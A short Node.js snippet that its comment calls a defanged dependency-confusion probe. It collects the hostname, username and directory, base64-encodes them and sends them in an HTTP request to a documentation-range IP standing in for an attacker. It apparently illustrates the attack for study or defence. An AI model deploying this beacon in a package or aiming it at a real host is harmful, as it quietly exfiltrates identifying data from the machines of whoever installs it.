// Defanged shape of a dependency-confusion probe: host fingerprint to a documentation IP.
const os = require('os');
const http = require('http');
const data = Buffer.from(JSON.stringify({
  h: os.hostname(),
  u: os.userInfo().username,
  d: __dirname
})).toString('base64');
http.get('http://192.0.2.45:8080/c?d=' + data);
